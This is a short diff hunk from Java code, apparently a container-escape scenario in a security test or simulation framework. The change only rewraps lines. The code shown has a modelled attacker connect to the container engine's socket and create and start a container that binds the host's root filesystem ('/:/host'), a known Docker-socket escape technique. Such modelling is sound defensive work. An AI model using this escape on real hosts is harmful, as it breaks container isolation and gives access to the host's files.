@@ -33,9 +33,9 @@ record RuntimeSocket() implements Escape {
                         .formatted(stake.nonceFile(), stake.left())
                 + "\"HostConfig\":{\"Binds\":[\"/:/host\"]}}";
         return List.of(attacker -> {
-            int engine = attacker.note("the engine's socket").connect(scene.at(stake.services().engineSocket()));
-            attacker.note("a container with / of the host, please")
-                    .send(engine, request("create?name=out", body));
+            int engine = attacker.note("the engine's socket")
+                    .connect(scene.at(stake.services().engineSocket()));
+            attacker.note("a container with / of the host, please").send(engine, request("create?name=out", body));
             attacker.tell(engine);
             attacker.send(engine, request("out/start", ""));
             attacker.tell(engine);
